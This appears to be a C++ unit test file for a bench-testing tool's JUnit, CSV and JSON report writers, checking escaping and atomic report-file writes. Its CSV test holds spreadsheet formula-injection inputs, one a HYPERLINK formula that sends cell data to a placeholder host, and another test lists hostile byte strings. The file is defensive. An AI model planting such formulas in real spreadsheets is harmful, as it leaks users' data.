// benchora's reports: the JUnit, CSV and JSON writers compared whole, what
// every hostile text becomes in each, and report files that are complete or
// left as they were.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "report/csv_report.h"
#include "report/json_line.h"
#include "report/junit_report.h"
#include "report/report_file.h"
#include "report/reports.h"
#include "text/report_text.h"

namespace {

using namespace benchora;

Record Check(std::string origin, std::string name, std::string value, bool pass,
             std::string message, std::string test) {
  Record r;
  r.kind = RecordKind::kCheck;
  r.time_ms = 900;
  r.origin = std::move(origin);
  r.name = std::move(name);
  r.value = std::move(value);
  r.pass = pass;
  r.message = std::move(message);
  r.test = std::move(test);
  return r;
}

RunIdentity Identity() {
  RunIdentity identity;
  identity.timestamp = "2026-12-07T12:00:00Z";
  identity.hostname = "bench-3";
  identity.chip = "gen2";
  identity.link = "serial port /dev/ttyUSB0,115200";
  identity.plugin = "/opt/bench/Sonvio.dll";
  identity.plugin_version = "6.0.0.0";
  identity.handset = "FW 5.12.3, SW 2.4.17, DR947-B2 FMRX, DRUSK";
  identity.benchora_version = "6.0.0.0";
  identity.scripts = {{"a/check.txt", "ab12"}};
  identity.dut = "handset-7";
  return identity;
}

// A limit missed is a <failure>, something that went wrong in a command an
// <error>, a check not run <skipped> and never a failure; each suite says
// which run and handset it is about.
TEST(Reports, JunitCsvAndJsonWhole) {
  std::vector<Record> records;
  Record rssi = Check("a/check.txt:7", "LERSSI", "30", true,
                      "PASS LERSSI: measured 30, limits in 25..40 dBuV", "LERSSI in 25..40 dBuV");
  rssi.unit = "dBuV";
  rssi.low = "25";
  rssi.high = "40";
  records.push_back(rssi);
  records.push_back(Check("a/check.txt:8", "rds.ps", "R&B <1>", false,
                          "FAIL rds.ps: measured \"R&B <1>\", limits = \"x\"", "rds.ps = \"x\""));
  Record problem =
      Check("-e 2", "click Btn", "", false,
            "click Btn: unexpected error line: Set: at@audapp:x() answered ERROR", "click Btn");
  problem.kind = RecordKind::kProblem;
  problem.time_ms = 1000;
  records.push_back(problem);
  Record skipped = Check("a/check.txt:9", "LStereo", "", false,
                         "not run: --strict stopped the run before it", "LStereo = Yes");
  skipped.kind = RecordKind::kSkipped;
  records.push_back(skipped);
  Record sample = Check("a/check.txt:10", "LERSSI", "31", true, "", "");
  sample.kind = RecordKind::kSample;
  sample.unit = "dBuV";
  records.push_back(sample);

  EXPECT_EQ(JunitXml(records, Identity()), R"(<?xml version="1.0" encoding="UTF-8"?>
<testsuites name="benchora" tests="4" failures="1" errors="1" skipped="1">
  <testsuite name="a/check.txt" tests="3" failures="1" errors="0" skipped="1" timestamp="2026-12-07T12:00:00Z" hostname="bench-3">
    <properties>
      <property name="dut" value="handset-7"/>
      <property name="chip" value="gen2"/>
      <property name="link" value="serial port /dev/ttyUSB0,115200"/>
      <property name="handset" value="FW 5.12.3, SW 2.4.17, DR947-B2 FMRX, DRUSK"/>
      <property name="plugin" value="/opt/bench/Sonvio.dll"/>
      <property name="plugin_version" value="6.0.0.0"/>
      <property name="benchora_version" value="6.0.0.0"/>
      <property name="script" value="a/check.txt"/>
      <property name="script_sha256" value="ab12"/>
    </properties>
    <testcase classname="a/check.txt" name="LERSSI in 25..40 dBuV" file="a/check.txt" line="7" time="0"/>
    <testcase classname="a/check.txt" name="rds.ps = &quot;x&quot;" file="a/check.txt" line="8" time="0">
      <failure message="FAIL rds.ps: measured &quot;R&amp;B &lt;1&gt;&quot;, limits = &quot;x&quot;" type="verify">a/check.txt:8: FAIL rds.ps: measured &quot;R&amp;B &lt;1&gt;&quot;, limits = &quot;x&quot;</failure>
    </testcase>
    <testcase classname="a/check.txt" name="LStereo = Yes" file="a/check.txt" line="9" time="0">
      <skipped message="not run: --strict stopped the run before it"/>
    </testcase>
  </testsuite>
  <testsuite name="-e" tests="1" failures="0" errors="1" skipped="0" timestamp="2026-12-07T12:00:00Z" hostname="bench-3">
    <properties>
      <property name="dut" value="handset-7"/>
      <property name="chip" value="gen2"/>
      <property name="link" value="serial port /dev/ttyUSB0,115200"/>
      <property name="handset" value="FW 5.12.3, SW 2.4.17, DR947-B2 FMRX, DRUSK"/>
      <property name="plugin" value="/opt/bench/Sonvio.dll"/>
      <property name="plugin_version" value="6.0.0.0"/>
      <property name="benchora_version" value="6.0.0.0"/>
      <property name="script" value="a/check.txt"/>
      <property name="script_sha256" value="ab12"/>
    </properties>
    <testcase classname="-e" name="click Btn" time="0">
      <error message="click Btn: unexpected error line: Set: at@audapp:x() answered ERROR" type="command">-e 2: click Btn: unexpected error line: Set: at@audapp:x() answered ERROR</error>
    </testcase>
  </testsuite>
</testsuites>
)");
  std::string csv = CsvHead(Identity());
  for (const Record& r : records) csv += CsvRow(r, "handset-7");
  EXPECT_EQ(csv,
            "# timestamp: 2026-12-07T12:00:00Z\n"
            "# hostname: bench-3\n"
            "# dut: handset-7\n"
            "# chip: gen2\n"
            "# link: serial port /dev/ttyUSB0,115200\n"
            "# handset: FW 5.12.3, SW 2.4.17, DR947-B2 FMRX, DRUSK\n"
            "# plugin: /opt/bench/Sonvio.dll\n"
            "# plugin_version: 6.0.0.0\n"
            "# benchora_version: 6.0.0.0\n"
            "# script: a/check.txt\n"
            "# script_sha256: ab12\n"
            "time_ms,name,value,unit,low,high,verdict,origin,dut\n"
            "900,LERSSI,30,dBuV,25,40,PASS,a/check.txt:7,handset-7\n"
            "900,rds.ps,R&B <1>,,,,FAIL,a/check.txt:8,handset-7\n"
            "1000,click Btn,,,,,ERROR,'-e 2,handset-7\n"
            "900,LStereo,,,,,SKIPPED,a/check.txt:9,handset-7\n"
            "900,LERSSI,31,dBuV,,,,a/check.txt:10,handset-7\n");
  EXPECT_EQ(
      JsonLine(records[1], ""),
      R"({"kind":"check","time_ms":900,"origin":"a/check.txt:8","name":"rds.ps","value":"R&B <1>",)"
      R"("unit":"","low":"","high":"","verdict":"FAIL","message":"FAIL rds.ps: measured \"R&B <1>\", limits = \"x\""})");
  EXPECT_EQ(
      JsonLine(records[4], "handset-7"),
      R"({"kind":"sample","time_ms":900,"origin":"a/check.txt:10","name":"LERSSI","value":"31",)"
      R"("unit":"dBuV","low":"","high":"","verdict":"","message":"","dut":"handset-7"})");
}

// What a spreadsheet would run, and what the air can send, in one CSV cell.
TEST(Reports, CsvCellsNeverStartAFormula) {
  const struct {
    const char* text;
    const char* cell;
  } kCases[] = {
      {"plain", "plain"},
      {"a,\"b\"", "\"a,\"\"b\"\"\""},
      {"=1+1", "'=1+1"},
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"Details\")",
       "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Details\"\")\""},
      {"+CHIPVER", "'+CHIPVER"},
      {"-cmd", "'-cmd"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"-12.5", "-12.5"},  // numbers stay numbers
      {"+5", "'+5"},       // not a number as benchora writes them: kept as text
      {"-", "'-"},
      {"\tTAB", "\\x09TAB"},  // control bytes escaped, so no tab or CR starts a cell
      {"\r=1", "\\x0D=1"},
      {"line\nbreak", "line\\x0Abreak"},
      {"\x1B[31mred", "\\x1B[31mred"},
      {"R\x91"
       "DIO",
       "R\\x91DIO"},
  };
  for (const auto& c : kCases) EXPECT_EQ(CsvField(c.text), c.cell) << c.text;
}

// Hostile texts from the air in every report: each output stays valid
// (UTF-8 XML, parseable JSON) and the text survives, escaped.
TEST(Reports, HostileTextsKeepEveryFormatValid) {
  const std::string kTexts[] = {
      "R\x91"
      "DIO",
      "\xC0\xAF",
      "\xED\xA0\x80",
      "\xEF\xBF\xBE",
      "\xF4\x90\x80\x80",
      "\xE2\x82",
      "]]>",
      "\"'<>&",
      std::string("a\0b", 3),
      "\x1B[2J\x07",
      "=1+1",
      "\xFF\xFE",
      "R\xC3\x84"
      "DIO",
  };
  for (const std::string& text : kTexts) {
    const Record r = Check("s.txt:1", "rds.rt", text, false, "FAIL rds.rt: measured " + text, text);
    std::string xml = JunitXml({r}, Identity());
    EXPECT_EQ(xml.find("]]>"), std::string::npos);
    std::replace(xml.begin(), xml.end(), '\n', ' ');
    EXPECT_TRUE(tooltext::IsReportText(xml)) << text;  // valid UTF-8, no control bytes
    const nlohmann::json parsed = nlohmann::json::parse(JsonLine(r, ""));
    EXPECT_EQ(parsed["value"], tooltext::ReportText(text));
  }
}

class ReportFileTest : public ::testing::Test {
 protected:
  void SetUp() override {
    folder_ =
        std::filesystem::temp_directory_path() / ("benchora-reports-" + std::to_string(::getpid()));
    std::filesystem::create_directories(folder_);
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }
  static std::string Read(const std::filesystem::path& path) {
    std::ifstream in(path);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
  }
  std::filesystem::path folder_;
};

// An older report stays whole until the new one is complete, and when the
// new one never is.
TEST_F(ReportFileTest, OlderReportStaysUntilTheNewOneIsInPlace) {
  const std::string path = (folder_ / "check.xml").string();
  std::ofstream(path) << "old report";
  {
    ReportFile file;
    std::string error;
    ASSERT_TRUE(file.Open(path, error)) << error;
    EXPECT_TRUE(file.Write("new "));
    EXPECT_EQ(Read(path), "old report");
  }  // never committed: a run that did not get that far
  EXPECT_EQ(Read(path), "old report");
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(folder_), {}), 1);
  ReportFile file;
  std::string error;
  ASSERT_TRUE(file.Open(path, error));
  EXPECT_TRUE(file.Write("new report"));
  EXPECT_TRUE(file.Commit(error)) << error;
  EXPECT_EQ(Read(path), "new report");
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(folder_), {}), 1);
}

// Failures name the file and the system's reason.
TEST_F(ReportFileTest, FailuresNameTheFileAndTheReason) {
  ReportFile missing;
  std::string error;
  EXPECT_FALSE(missing.Open((folder_ / "no" / "such.xml").string(), error));
  EXPECT_EQ(error, "cannot write " + (folder_ / "no" / "such.xml").string() +
                       ": No such file or directory");
  if (!std::filesystem::exists("/dev/full")) GTEST_SKIP() << "no /dev/full";
  ReportFile full;
  ASSERT_TRUE(full.Open("/dev/full", error));
  EXPECT_TRUE(full.in_place());
  EXPECT_FALSE(full.Write("row\n"));
  EXPECT_FALSE(full.Commit(error));
  EXPECT_EQ(error, "cannot write /dev/full: No space left on device");
}

// A FIFO is opened once and written in place, for the reader already there.
TEST_F(ReportFileTest, FifoIsWrittenInPlace) {
  const std::string fifo = (folder_ / "report.fifo").string();
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  std::string read;
  std::thread reader([&] { read = Read(fifo); });
  ReportFile file;
  std::string error;
  ASSERT_TRUE(file.Open(fifo, error)) << error;
  EXPECT_TRUE(file.in_place());
  EXPECT_TRUE(file.Write("<testsuites/>\n"));
  EXPECT_TRUE(file.Commit(error)) << error;
  reader.join();
  EXPECT_EQ(read, "<testsuites/>\n");
}

TEST_F(ReportFileTest, SameFileSeesThroughOtherSpellings) {
  const std::string script = (folder_ / "mine.txt").string();
  std::ofstream(script) << "click btn_onoff\n";
  EXPECT_TRUE(SameFile(script, (folder_ / "." / "mine.txt").string()));
  EXPECT_TRUE(
      SameFile((folder_ / "new.csv").string(), (folder_ / "x" / ".." / "new.csv").string()));
  EXPECT_FALSE(SameFile(script, (folder_ / "other.txt").string()));
}

}  // namespace
